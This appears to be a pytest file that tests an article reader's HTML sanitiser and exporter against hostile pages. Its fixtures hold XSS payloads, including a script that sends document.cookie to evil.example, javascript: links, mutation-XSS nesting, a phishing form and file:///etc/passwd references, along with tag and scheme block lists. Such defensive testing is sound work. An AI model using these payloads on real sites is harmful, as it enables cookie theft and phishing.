"""D1 and D5: hostile markup never reaches the reader or an exported page as live HTML.

The reader-side rows (D2 remote resources, D3 local files, D4 link clicks, D6 image
bombs) need Qt widgets and are covered in ``tests/desktop/``.

The checks parse the output with ``html.parser`` and judge tags, attributes and URL
schemes, so words like "javascript:" in the article's *text* (escaped, harmless) do
not count as a failure while any live element or attribute does.
"""

from __future__ import annotations

import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from capture.extract import extract
from capture.extract.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, sanitize_reader_html
from storage.archive import Archive
from tests.reliability.helpers import fetched

BASE = "https://news.example/2026/03/harbour.html"
SAFE_SCHEMES = ("http://", "https://", "mailto:")


class Audit(HTMLParser):
    """Every start tag with its attributes, and the raw text of comments/declarations."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.other.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.other.append("decl")

    def handle_pi(self, data: str) -> None:
        self.other.append("pi")

    def unknown_decl(self, data: str) -> None:
        self.other.append("cdata")


def reader_problems(html: str, *, allowed_tags: frozenset[str] = ALLOWED_TAGS,
                    allowed_attrs: dict[str, set[str]] | None = None) -> list[str]:
    """Everything in ``html`` that the reader's allow-list forbids."""
    allowed_attrs = ALLOWED_ATTRIBUTES if allowed_attrs is None else allowed_attrs
    audit = Audit()
    audit.feed(html)
    audit.close()
    problems = list(audit.other)
    for tag, attrs in audit.tags:
        if tag not in allowed_tags:
            problems.append(f"<{tag}>")
        for name, value in attrs:
            if name not in allowed_attrs.get(tag, set()):
                problems.append(f"{tag}[{name}]")
            elif name in ("href", "src") and not (value or "").lower().startswith(SAFE_SCHEMES):
                problems.append(f"{tag}[{name}={value!r}]")
    for token in ("<script", "<style", "<iframe", "<meta", "<base", "<link", "<object",
                  "<embed", "<form", "<svg", "<math"):  # as text these would be &lt;…
        if re.search(re.escape(token), html, re.I):
            problems.append(token)
    return problems


HOSTILE_PAGE = """<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://tracker.example/s.css">
<style>body{background:url(https://tracker.example/bg.png)}</style>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<title>Council approves harbour budget</title></head>
<body onload="steal()"><article>
<h1>Council approves harbour budget</h1>
<p onclick="alert(1)" style="background:url(javascript:alert(2))">The Saltmere council
approved the harbour budget on Tuesday after a long debate about the sea wall.</p>
<p>Residents <a href="javascript:alert(3)">javascript:alert(3)</a> asked about
<a href="JaVaScRiPt&#58;alert(4)">costs</a> and <a href="  data:text/html,<script>x</script>">data</a>.
<a href="/budget/2026">The budget</a> is online.</p>
<iframe src="https://evil.example/frame" srcdoc="<script>alert(5)</script>"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<form action="https://evil.example/phish"><input name="password"><button>Log in</button></form>
<svg onload="alert(6)"><script>alert(7)</script><a xlink:href="javascript:alert(8)">x</a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(9)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(10)>"></p></noscript>
<img src="https://cdn.news.example/wall.jpg" onerror="alert(11)" alt="The sea wall"
     srcset="https://tracker.example/pixel.gif 1x">
<img src="file:///etc/passwd"><img src="/dev/zero"><img src="../../../etc/hostname">
<p>The mayor said the work would start in <b>May</b> and end by <i>autumn</i>.</p>
<!-- <script>alert(12)</script> -->
</article></body></html>"""


def test_d1_hostile_page_through_extraction_gives_only_allow_listed_html() -> None:
    ex = extract(HOSTILE_PAGE, BASE)
    assert "harbour budget on Tuesday" in ex.text
    assert reader_problems(ex.reader_html) == []
    assert "evil.example" not in ex.reader_html
    assert "tracker.example" not in ex.reader_html
    # Local references can only survive as URLs on the article's own site.
    assert not re.search(r'(src|href)="(?!https?://|mailto:)', ex.reader_html)
    assert all(i.url.startswith(("https://", "http://")) for i in ex.images)


def test_d1_hostile_fragment_through_the_sanitiser() -> None:
    out = sanitize_reader_html(HOSTILE_PAGE, BASE)
    assert reader_problems(out) == []
    assert 'href="https://news.example/budget/2026"' in out  # relative link made absolute


def test_d1_meta_refresh_is_never_followed(httpserver) -> None:  # type: ignore[no-untyped-def]
    """The fetcher does not follow a meta refresh (only HTTP redirects count)."""
    from capture.fetch import Fetcher
    from capture.settings import Settings

    httpserver.expect_request("/page").respond_with_data(
        '<html><head><meta http-equiv="refresh" content="0;url=/elsewhere"></head>'
        "<body><p>Original page</p></body></html>", content_type="text/html")
    with Fetcher(Settings(allow_local_network=True, retries=0)) as fetcher:
        result = fetcher.fetch(httpserver.url_for("/page"))
    assert result.final_url.endswith("/page") and result.redirects == []
    assert [r.path for r, _ in httpserver.log] == ["/page"]


_FRAGMENTS = [
    "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<p onclick=x()>",
    "<img src=x onerror=alert(1)>", "<a href=javascript:alert(1)>", "<a href=\"/rel\">",
    "<iframe srcdoc='<script>x</script>'>", "<svg><style><img src=x onerror=a()>", "</svg>",
    "<math><mtext><table><mglyph><style><img src=1 onerror=b()>", "<noscript><p title=\"",
    "\"></noscript><img src=x onerror=c()>", "<style>*{background:url(//t.example)}</style>",
    "<meta http-equiv=refresh content=0>", "<base href=//evil.example/>", "<!--", "-->",
    "<![CDATA[<script>x</script>]]>", "<template><script>x</script></template>", "<p>",
    "</p>", "<b>", "</i>", "<blockquote>", "<li>", "<img src=\"https://cdn.example/a.png\">",
    "&lt;script&gt;", "&#x6a;avascript:", "<a href=\"&#x6a;avascript:alert(1)\">",
    "<a href=\"http://ok.example/?q=<script>\">", "<form><button formaction=javascript:x>",
    "<object data=x>", "<embed src=x>", "<link rel=stylesheet href=x>", "<h1 style=\"x:y\">",
    "<div id=\"a\" class=\"b\">", "<p style=\"background:url(javascript:x)\">", "\x00",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<a href=\"mailto:x@y.example\">",
]
_soup = st.lists(st.one_of(st.sampled_from(_FRAGMENTS), st.text(max_size=12)),
                 max_size=25).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_soup, st.sampled_from([BASE, None]))
def test_d1_sanitiser_is_idempotent_and_clean_on_tag_soup(soup: str, base: str | None) -> None:
    once = sanitize_reader_html(soup, base)
    assert sanitize_reader_html(once, base) == once
    assert reader_problems(once) == []


# --------------------------------------------------------------------------- D5 exports

CSP = "default-src 'none'"


@pytest.fixture
def hostile_archive(tmp_path: Path) -> Archive:
    """An article whose stored reader HTML is hostile (as an import from an old or
    tampered export could make it), so the exporter's own sanitising is what is tested."""
    archive = Archive.open(str(tmp_path / "a.db"))
    ex = extract(HOSTILE_PAGE, BASE)
    ex.reader_html = HOSTILE_PAGE  # bypass the capture-time sanitiser on purpose
    ex.title = 'Budget <script>alert("t")</script> "approved" <img src=x onerror=y()>'
    archive.store_capture(fetched(BASE, HOSTILE_PAGE.encode()), ex)
    yield archive
    archive.close()


def _export_problems(html: str) -> list[str]:
    audit = Audit()
    audit.feed(html)
    problems = []
    for tag, attrs in audit.tags:
        if tag in {"script", "iframe", "object", "embed", "form", "base", "link", "svg", "math"}:
            problems.append(f"<{tag}>")
        if tag == "meta" and not any(v == "Content-Security-Policy" for _k, v in attrs) \
                and not any(k == "charset" for k, _v in attrs) \
                and not any(k == "name" for k, _v in attrs):
            problems.append(f"<meta {attrs}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"srcdoc", "formaction"}:
                problems.append(f"{tag}[{name}]")
            if name in ("href", "src") and (value or "").strip().lower().startswith(
                    ("javascript:", "data:text", "file:", "vbscript:")):
                problems.append(f"{tag}[{name}={value!r}]")
    return problems


def test_d5_html_export_has_no_script_and_a_csp(hostile_archive: Archive, tmp_path: Path) -> None:
    from storage.export import Selection, export

    out = tmp_path / "report.html"
    export(hostile_archive, Selection(all_articles=True), "html", out)
    html = out.read_text(encoding="utf-8")
    assert _export_problems(html) == []
    assert re.search(r'<meta http-equiv="Content-Security-Policy" content="[^"]*'
                     + re.escape(CSP), html)
    assert "harbour budget on Tuesday" in html


def test_d5_zip_bundle_pages_have_no_script_and_a_csp(hostile_archive: Archive,
                                                      tmp_path: Path) -> None:
    from storage.export import Selection, export

    out = tmp_path / "bundle.zip"
    export(hostile_archive, Selection(all_articles=True), "zip", out)
    pages = 0
    with zipfile.ZipFile(out) as zf:
        for name in zf.namelist():
            assert not name.startswith("/") and ".." not in name.split("/")
            if not name.endswith((".html", ".htm")):
                continue
            html = zf.read(name).decode("utf-8", "replace")
            if "snapshot" in name or name.startswith(("raw/", "snapshots/")):
                continue  # raw evidence, not a page meant to be opened
            pages += 1
            assert _export_problems(html) == [], name
            assert "Content-Security-Policy" in html and CSP in html, name
    assert pages >= 1


def test_d2_d3_stored_reader_html_references_only_the_articles_own_assets(
        tmp_path: Path) -> None:
    """The headless half of D2/D3: whatever the page pointed at, the stored reader HTML
    keeps only ``asset:<sha256>`` images of this capture, and the archive serves an
    asset only to the article it belongs to (the Qt side is in tests/desktop)."""
    import hashlib

    from capture.types import AssetResult, ImageRef
    from tests.support.fixture_site import png_bytes

    own = "https://cdn.news.example/wall.jpg"
    page = (f'<html><body><article><h1>Sea wall</h1><p>The wall was inspected on Monday by '
            f'the county engineer and found sound.</p><img src="{own}" alt="wall">'
            '<img src="https://tracker.example/pixel.gif"><img src="/dev/zero">'
            '<img src="file:///etc/hostname"><img src="../../secret.png"></article>'
            '</body></html>')
    ex = extract(page, BASE)
    img = png_bytes()
    asset = AssetResult(own, own, "image/png", img, hashlib.sha256(img).hexdigest())
    other_img = png_bytes(rgb=(1, 2, 3))
    other = AssetResult(own, own, "image/png", other_img, hashlib.sha256(other_img).hexdigest())
    with Archive.open(str(tmp_path / "a.db")) as archive:
        first = archive.store_capture(fetched(BASE, page.encode()), ex,
                                      [(ImageRef(own, "wall"), asset)])
        second = archive.store_capture(fetched("https://news.example/other", page.encode()),
                                       extract(page, "https://news.example/other"),
                                       [(ImageRef(own, "wall"), other)])
        html = archive.article(first.article_id)["reader_html"]
        srcs = re.findall(r'<img[^>]*\ssrc="([^"]*)"', html)
        assert srcs == [f"asset:{asset.sha256}"]
        assert "tracker.example" not in html and "/dev/zero" not in html
        assert archive.asset_bytes(first.article_id, asset.sha256) == img
        assert archive.asset_bytes(first.article_id, other.sha256) is None  # not its asset
        assert archive.asset_bytes(second.article_id, other.sha256) == other_img
        assert archive.asset_bytes(first.article_id, "../../etc/passwd") is None
